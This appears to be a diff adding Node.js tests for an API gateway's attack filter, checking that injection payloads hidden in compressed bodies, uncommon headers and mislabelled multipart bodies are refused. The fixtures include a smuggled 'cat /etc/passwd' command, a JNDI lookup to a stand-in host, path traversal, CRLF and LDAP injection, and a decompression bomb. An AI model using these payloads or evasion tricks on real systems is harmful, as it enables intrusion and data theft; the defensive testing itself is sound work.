@@ -1,7 +1,9 @@
 // Through a real gateway: attacks in every placement are refused before the upstream sees them,
 // ordinary traffic passes untouched, exclusions and report mode behave.
 import assert from 'node:assert/strict';
+import { request } from 'node:http';
 import { after, before, describe, test } from 'node:test';
+import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import { passthroughYaml, startTestGateway, type TestGateway } from '../../../test/helpers/gateway.ts';
 import { startUpstream, type TestUpstream } from '../../../test/helpers/upstream.ts';
 
@@ -69,5 +71,140 @@ describe('inspect policy', () => {
   test('report mode lets the attack through', async () => {
     const res = await fetch(`${reportGw.url}/search?q=${encodeURIComponent("1' OR '1'='1' --")}`);
     assert.equal(res.status, 200);
+  });
+
+  // Express's body parsers inflate gzip and deflate before parsing: the attack is in the decoded body.
+  describe('compressed bodies', () => {
+    const json = JSON.stringify({ host: '8.8.8.8; cat /etc/passwd', user: '${jndi:ldap://evil.test/a}' });
+    const form = `file=${encodeURIComponent('../../../../etc/passwd')}`;
+    const codings: [string, string, (b: Buffer) => Buffer][] = [
+      ['gzip', 'gzip', gzipSync], ['x-gzip', 'gzip', gzipSync], ['deflate', 'zlib', deflateSync], ['deflate', 'raw deflate', deflateRawSync],
+      ['br', 'brotli', brotliCompressSync], ['GZip', 'gzip', gzipSync],
+    ];
+    const post = (body: Buffer, encoding: string, type = 'application/json') =>
+      fetch(`${gw.url}/api`, { method: 'POST', headers: { 'content-type': type, 'content-encoding': encoding }, body });
+
+    for (const [coding, format, compress] of codings) {
+      test(`an attack in a body with Content-Encoding ${coding} (${format}) is refused`, async () => {
+        const before = upstream.received.length;
+        const res1 = await post(compress(Buffer.from(json)), coding);
+        assert.equal(res1.status, 403);
+        assert.equal(((await res1.json()) as { code: string }).code, 'PCL_ERR_ATTACK_DETECTED');
+        const res2 = await post(compress(Buffer.from(form)), coding, 'application/x-www-form-urlencoded');
+        assert.equal(res2.status, 403);
+        await res2.body?.cancel();
+        assert.equal(upstream.received.length, before);
+      });
+    }
+
+    test('a clean compressed body is forwarded byte for byte, still compressed', async () => {
+      const body = gzipSync(Buffer.from(JSON.stringify({ note: 'hello', n: 3 })));
+      const res = await post(body, 'gzip');
+      assert.equal(res.status, 200);
+      const got = upstream.received.at(-1)!;
+      assert.deepEqual(got.body, body);
+      assert.equal(got.headers['content-encoding'], 'gzip');
+      assert.equal((await post(Buffer.from('{"a":1}'), 'identity')).status, 200);
+    });
+
+    test('a decompression bomb is refused (413), not decoded without bound', async () => {
+      const before = upstream.received.length;
+      const bomb = gzipSync(Buffer.alloc(64 << 20, 0x20)); // 64 MiB of spaces in ~64 KiB
+      const res = await post(bomb, 'gzip');
+      assert.equal(res.status, 413);
+      assert.match(res.headers.get('content-type') ?? '', /problem\+json/);
+      assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_BODY_TOO_LARGE');
+      assert.equal(upstream.received.length, before);
+    });
+
+    test('unknown or stacked codings are refused (415), corrupt data too (400)', async () => {
+      const before = upstream.received.length;
+      for (const [encoding, body] of [['compress', Buffer.from(json)], ['gzip, gzip', gzipSync(gzipSync(Buffer.from(json)))], ['zstd', Buffer.from(json)], ['gzip, identity', gzipSync(Buffer.from(json))]] as const) {
+        const res = await post(body, encoding);
+        assert.equal(res.status, 415, encoding);
+        assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_UNSUPPORTED_MEDIA_TYPE');
+      }
+      for (const encoding of ['gzip', 'deflate', 'br']) {
+        const res = await post(Buffer.from(json), encoding);
+        assert.equal(res.status, 400, encoding);
+        assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_BAD_REQUEST');
+      }
+      assert.equal(upstream.received.length, before);
+    });
+  });
+
+  describe('headers outside the fully inspected set', () => {
+    const basic = (s: string) => `Basic ${Buffer.from(s).toString('base64')}`;
+    const attacks: Record<string, string>[] = [
+      { 'x-correlation-id': '${jndi:ldap://evil.test/a}' },
+      { traceparent: '${jndi:ldap://evil.test/a}' },
+      { 'cache-control': '${jndi:ldap://evil.test/a}' },
+      { 'if-none-match': '${jndi:ldap://evil.test/a}' },
+      { 'sec-ch-ua': '${jndi:ldap://evil.test/a}' },
+      { 'accept-language': '../../../../etc/passwd' },
+      { 'x-request-id': '%0d%0aSet-Cookie: session=attacker' },
+      { authorization: basic("admin' OR 1=1--:x") },
+      { authorization: basic('*)(uid=*))(|(uid=*:secret') },
+      { authorization: 'Bearer ${jndi:ldap://evil.test/a}' },
+    ];
+    for (const headers of attacks) {
+      const [name, value] = Object.entries(headers)[0]!;
+      test(`refuses ${name}: ${value}`, async () => {
+        const before = upstream.received.length;
+        const res = await fetch(`${gw.url}/x`, { headers });
+        assert.equal(res.status, 403);
+        const text = await res.text();
+        assert.ok(!text.includes('admin') && !text.includes('jndi'));
+        assert.equal(upstream.received.length, before);
+      });
+    }
+
+    test('refuses a lookup in Host', async () => {
+      const before = upstream.received.length;
+      const status = await new Promise<number>((resolve, reject) => {
+        const u = new URL(gw.url);
+        request({ host: u.hostname, port: u.port, path: '/x', headers: { host: '${jndi:ldap://evil.test/a}' } }, (res) => {
+          res.resume();
+          resolve(res.statusCode ?? 0);
+        }).on('error', reject).end();
+      });
+      assert.equal(status, 403);
+      assert.equal(upstream.received.length, before);
+    });
+
+    test('ordinary browser and API headers pass', async () => {
+      const headers = {
+        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
+        'accept-language': 'en-GB,en;q=0.9,fr-FR;q=0.8',
+        'accept-encoding': 'gzip, deflate, br, zstd',
+        'cache-control': 'no-cache, max-age=0, must-revalidate',
+        'if-none-match': 'W/"5e-1b2c3d4e5f", "abc/def+=="',
+        'if-modified-since': 'Wed, 21 Oct 2015 07:28:00 GMT',
+        traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
+        tracestate: 'congo=t61rcWkgMzE,rojo=00f067aa0ba902b7',
+        'x-correlation-id': 'b3c1a7e2-9f4d-4c1e-8a2b-1f2e3d4c5b6a',
+        'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
+        'sec-ch-ua-platform': '"Windows"',
+        'sec-fetch-dest': 'document',
+        'x-amzn-trace-id': 'Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1',
+        authorization: 'Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmF0dXJlLi4vLi4vZXRj-_x',
+      };
+      assert.equal((await fetch(`${gw.url}/x`, { headers })).status, 200);
+      for (const user of ['alice', "o'brien@example.com", 'DOMAIN\\bob']) {
+        const res = await fetch(`${gw.url}/x`, { headers: { authorization: basic(`${user}:p@ss' OR 1=1--/../..`) } });
+        assert.equal(res.status, 200, user);
+      }
+    });
+  });
+
+  test('a body labelled multipart without any part is inspected as what it is', async () => {
+    const before = upstream.received.length;
+    const res = await fetch(`${gw.url}/run`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: JSON.stringify({ host: '8.8.8.8; cat /etc/passwd' }) });
+    assert.equal(res.status, 403);
+    const raw = await fetch(`${gw.url}/run`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: 'host=8.8.8.8;cat /etc/passwd' });
+    assert.equal(raw.status, 403);
+    assert.equal(upstream.received.length, before);
+    const ok = await fetch(`${gw.url}/run`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: JSON.stringify({ host: '8.8.8.8' }) });
+    assert.equal(ok.status, 200);
   });
 });
